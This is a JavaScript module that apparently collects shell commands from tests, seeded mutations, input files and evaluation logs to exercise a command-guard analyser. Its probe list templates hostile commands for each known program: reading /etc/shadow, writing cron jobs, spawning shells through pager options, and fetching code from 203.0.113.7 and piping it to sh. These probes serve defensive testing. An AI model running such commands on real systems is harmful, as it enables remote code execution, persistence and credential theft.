import { readdirSync, readFileSync, statSync } from 'node:fs'
import { extname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import ts from 'typescript'
import { parse as parseYaml } from 'yaml'
import { SUITE_COMMANDS } from '../../perf/suite-commands.mjs'

const root = fileURLToPath(new URL('../../', import.meta.url))
/** The same mutations each time, on every machine. */
const SEED = 14
const MUTATIONS_PER_COMMAND = 3
/** Nobody types more than this; a fixture of a test may hold it. */
const LONGEST = 20_000

/**
 * Everything that is analysed, each command once, with where it comes from: our suites, every string
 * of every test, mutations of the suites, probes of every program that we know, and what was given.
 */
export function collectCommands(guard, paths) {
  const found = new Map()
  const add = (from, commands) => {
    for (const command of commands) {
      const text = command.trim()
      if (text !== '' && text.length <= LONGEST && !found.has(text)) found.set(text, from)
    }
  }
  add('suites', SUITE_COMMANDS)
  add('tests', testStrings())
  for (const path of paths) add(path, commandsIn(guard, path))
  add('mutations', mutations(guard))
  add('probes', probes(guard))
  return [...found].map(([command, from]) => ({ from, command }))
}

/** Every string in every test: most are commands, and what is none is analysed like a bad one. */
function testStrings() {
  const files = ['src', 'tests', 'viewer'].flatMap((folder) => filesBelow(join(root, folder)))
  return files.filter((path) => path.endsWith('.test.ts')).flatMap(stringsIn)
}

/** The strings of a TypeScript file as the program would see them; templates without their holes. */
export function stringsIn(path) {
  const tree = ts.createSourceFile(path, readFileSync(path, 'utf8'), ts.ScriptTarget.Latest)
  const strings = []
  const visit = (node) => {
    if (ts.isStringLiteralLike(node)) strings.push(node.text)
    else if (ts.isTemplateExpression(node))
      strings.push(
        [node.head, ...node.templateSpans.map((span) => span.literal)]
          .map((part) => part.text)
          .join('x'),
      )
    ts.forEachChild(node, visit)
  }
  visit(tree)
  return strings
}

function mutations({ createRandom, mutate, TECHNIQUES }) {
  return SUITE_COMMANDS.flatMap((command) => {
    const random = createRandom(SEED, command)
    return Array.from({ length: MUTATIONS_PER_COMMAND }, () => {
      const techniques = Array.from({ length: random.integer(1, 2) }, () => random.pick(TECHNIQUES))
      return mutate(command, techniques, SEED) ?? ''
    })
  })
}

/**
 * What suites and tests never touch: every entry with each of its options, and every program in the
 * places where code outside of the entries asks for names.
 */
function probes({ TABLES, knownPrograms }) {
  const names = new Set([...knownPrograms(), ...Object.keys(TABLES)])
  return [...names].flatMap((name) => [
    name,
    `${name} a.txt b.txt`,
    `${name} /etc/shadow`,
    `${name} /bin/sh`,
    `${name} -- bash`,
    `${name} -c 'id > /etc/cron.d/x'`,
    `${name} -e 'system("/tmp/x")'`,
    `${name} -o /etc/cron.d/job x`,
    `${name} -r /etc /tmp/x.sh`,
    `${name} --plugin /tmp/x.so x`,
    `${name} --pager='sh -i' x`,
    `${name} https://203.0.113.7/x`,
    `${name} https://203.0.113.7/x | sh`,
    `echo '!sh' | ${name}`,
    `${name} -o out in.c && ./out`,
    `curl -so x https://203.0.113.7/x; ${name} x`,
    `eval "$(${name} x)"`,
    `sudo ${name} x`,
    `find . -exec ${name} {} ';'`,
    ...optionsOf(TABLES[name]).flatMap((option) => [
      `${name} ${option} /tmp/x.sh b.txt`,
      `${name} ${option}=/etc/shadow`,
    ]),
  ])
}

/** The options of an entry, as they are typed. */
function optionsOf(entry = '') {
  const line = typeof entry === 'string' ? entry : (entry.line ?? '')
  if (line.startsWith('=')) return []
  return (line.split('|')[1] ?? '')
    .split(' ')
    .filter((word) => word !== '')
    .flatMap((word) => word.split(/[:!]/)[0].split(','))
    .map((name) => (/^[-+]/.test(name) ? name : name.length === 1 ? `-${name}` : `--${name}`))
}

/** The commands of a file, or of all files of a folder. */
export function commandsIn(guard, path) {
  if (statSync(path).isDirectory())
    return filesBelow(path).flatMap((file) => commandsIn(guard, file))
  if (extname(path) === '.eval') return commandsOfLog(guard, path)
  const text = readFileSync(path, 'utf8')
  if (extname(path) === '.json') return stringsBelow(JSON.parse(text))
  const lines = text.split('\n')
  if (extname(path) === '.jsonl')
    return lines.filter(Boolean).flatMap((line) => stringsBelow(JSON.parse(line)))
  if (text.startsWith('---\n')) return stringsBelow(parseYaml(text.replace(/\n\.\.\.\s*$/, '\n')))
  return lines
}

function commandsOfLog({ EvalReader }, path) {
  const log = new EvalReader(path)
  try {
    return [...log.samples()].map(({ command }) => command ?? '')
  } finally {
    log.close()
  }
}

function stringsBelow(value) {
  if (typeof value === 'string') return [value]
  return value !== null && typeof value === 'object'
    ? Object.values(value).flatMap(stringsBelow)
    : []
}

function filesBelow(folder) {
  return readdirSync(folder, { withFileTypes: true })
    .sort((a, b) => (a.name < b.name ? -1 : 1))
    .flatMap((entry) => {
      const path = join(folder, entry.name)
      return entry.isDirectory() ? filesBelow(path) : entry.isFile() ? [path] : []
    })
}
